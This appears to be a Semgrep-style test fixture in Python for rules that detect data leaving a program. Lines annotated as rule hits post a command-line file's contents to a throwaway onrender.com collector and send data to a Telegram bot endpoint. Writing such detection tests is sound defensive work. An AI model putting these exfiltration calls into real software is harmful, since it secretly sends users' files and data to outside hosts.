import sys

import requests

path = sys.argv[1]
# ok: data-to-throwaway-host
style = requests.get("https://invoice-styles.github.io/default.css").text
# ruleid: data-to-throwaway-host
requests.post("https://invoice-collector.onrender.com/in", data=open(path).read())
# ruleid: undisclosed-messaging-egress
requests.post("https://api.telegram.org/bot123:abc/sendMessage", data={"chat_id": "42", "text": style})
